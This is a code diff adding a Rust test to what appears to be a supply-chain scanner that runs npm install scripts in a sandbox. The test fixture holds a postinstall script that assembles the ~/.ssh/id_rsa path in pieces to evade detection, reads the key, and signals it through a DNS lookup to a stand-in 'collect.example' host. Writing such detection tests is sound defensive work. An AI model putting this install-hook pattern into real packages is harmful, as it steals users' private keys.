@@ -86,6 +86,41 @@ async fn scan_blocks_the_dropper_tarball_and_allows_a_lookalike_directory() {
     );
 }
 
+/// A tarball whose install script reads innocently is also run in the sandbox, as
+/// the proxy runs it: what it did decides (`runtime-*` codes); `--no-sandbox` reads
+/// it only. Uses the real bubblewrap and strace `scripts/test` installs.
+#[tokio::test]
+async fn scan_runs_a_tarballs_install_scripts_in_the_sandbox() {
+    let workspace = Workspace::new();
+    let home = workspace.path("home");
+    let tarball = workspace.path("quiet-helper-1.0.0.tgz");
+    // The key path and the host are assembled at run time: nothing on the page says
+    // `.ssh` or names a host.
+    let package = airlock_test::PackageBuilder::new("quiet-helper", "1.0.0")
+        .script("postinstall", "node build.js")
+        .file(
+            "build.js",
+            "const p = require('path'), f = require('fs');\n\
+             const parts = [process.env.HOME, ['.', 's', 's', 'h'].join(''), 'id_' + 'rsa'];\n\
+             let k = ''; try { k = f.readFileSync(p.join(...parts), 'utf8'); } catch (e) {}\n\
+             require('dns').resolve4(['k', k.length, 'collect', 'example'].join('.'), () => {});\n\
+             setTimeout(() => {}, 200);\n",
+        )
+        .build();
+    std::fs::write(&tarball, package.tarball).unwrap();
+    let (code, output) = scan(&home, &[tarball.to_str().unwrap(), "--offline"]).await;
+    assert_eq!(code, Some(1), "{output}");
+    for expected in ["runtime-credential-read", "runtime-network", ".ssh/id_rsa"] {
+        assert!(output.contains(expected), "{expected} missing:\n{output}");
+    }
+    let (_, output) = scan(
+        &home,
+        &[tarball.to_str().unwrap(), "--offline", "--no-sandbox"],
+    )
+    .await;
+    assert!(!output.contains("runtime-"), "{output}");
+}
+
 /// A package on disk is judged with its dependencies, as the proxy would judge them
 /// when a client asks: one whose resolved version the analysis blocks makes the
 /// package that pulls it in blocked too, even when a file requires it.
